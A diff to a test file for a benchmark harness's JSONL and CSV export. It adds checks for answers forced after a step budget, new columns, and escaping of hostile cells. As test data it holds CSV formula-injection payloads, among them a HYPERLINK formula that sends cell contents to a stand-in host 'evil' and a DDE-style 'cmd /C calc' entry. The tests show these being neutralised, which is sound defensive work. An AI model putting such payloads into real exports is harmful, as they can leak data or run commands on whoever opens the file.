@@ -69,11 +69,29 @@ describe("export", () => {
     assert.deepInclude(lines[0], { outcome: "correct", cost_usd: 0.5, time_ms: 1_000 })
   })
 
+  it("jsonl and csv say which answers were forced (given after the step budget was spent)", () => {
+    const forced = [
+      prediction({ questionId: "f1", stopReason: "budget_exceeded", forced: true }),
+      prediction({ questionId: "f2", stopReason: "budget_exceeded", prediction: null, correct: false }),
+      prediction({ questionId: "f3" })
+    ]
+    const lines = renderExport("jsonl", forced).trimEnd().split("\n").map((l) => JSON.parse(l))
+    assert.deepStrictEqual(lines.map((l) => [l.question_id, l.forced, l.outcome]), [
+      ["f1", true, "correct"],
+      ["f2", false, "unanswered"],
+      ["f3", false, "correct"]
+    ])
+    const csv = renderExport("csv", forced).split("\r\n")
+    const column = csv[0]!.split(",").indexOf("forced")
+    assert.deepStrictEqual(csv.slice(1, 4).map((row) => row.split(",")[column]), ["true", "false", "false"])
+  })
+
   it("csv: a header, one row per prediction, quotes and commas escaped", () => {
     const csv = renderExport("csv", rows).split("\r\n")
     assert.strictEqual(
       csv[0],
-      "question_id,video_id,task_type,duration,domain,question,options,answer,prediction,outcome,stop_reason,steps,prompt_tokens,completion_tokens,cost_usd,time_ms,error"
+      "run_id,agent_model,question_id,video_id,task_type,duration,domain,question,options,answer,prediction,outcome," +
+        "stop_reason,forced,steps,prompt_tokens,completion_tokens,cost_usd,time_ms,error,evidence,reasoning"
     )
     assert.include(csv[3], `"Says ""hi, there""?"`)
     assert.strictEqual(csv.length, 5)
@@ -88,18 +106,28 @@ describe("export", () => {
         taskType: "+cmd|' /C calc'!A0",
         domain: "@SUM(1+1)"
       }),
-      prediction({ questionId: "h-2", question: "-2+3", taskType: "\tTab", domain: "\rCR" }),
+      prediction({
+        questionId: "h-2",
+        question: "-2+3",
+        taskType: "\tTab",
+        domain: "\rCR",
+        evidence: "=1+1",
+        reasoning: "@cmd"
+      }),
       prediction({ questionId: "-7", question: "-1.5", taskType: "plain" })
     ]
-    const [, first, second, third] = renderExport("csv", hostile).split("\r\n")
+    const run = { runId: "=run", agentModel: "+model" }
+    const [, first, second, third] = renderExport("csv", hostile, () => null, run).split("\r\n")
     assert.include(first, `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`)
     assert.include(first, `,'+cmd|' /C calc'!A0,`)
     assert.include(first, `'@SUM(1+1)`)
     assert.include(second, `'-2+3`)
     assert.include(second, `'\tTab`)
     assert.include(second, `"'\rCR"`)
+    assert.include(second, `,'=1+1,'@cmd`)
+    assert.isTrue(first!.startsWith("'=run,'+model,h-1,"))
     // A negative number is a number, not a formula.
-    assert.isTrue(third!.startsWith("-7,"))
+    assert.isTrue(third!.startsWith("'=run,'+model,-7,"))
     assert.include(third, ",-1.5,")
     // No cell of any row begins with a formula character once its quotes are set aside.
     for (const row of [first, second]) {
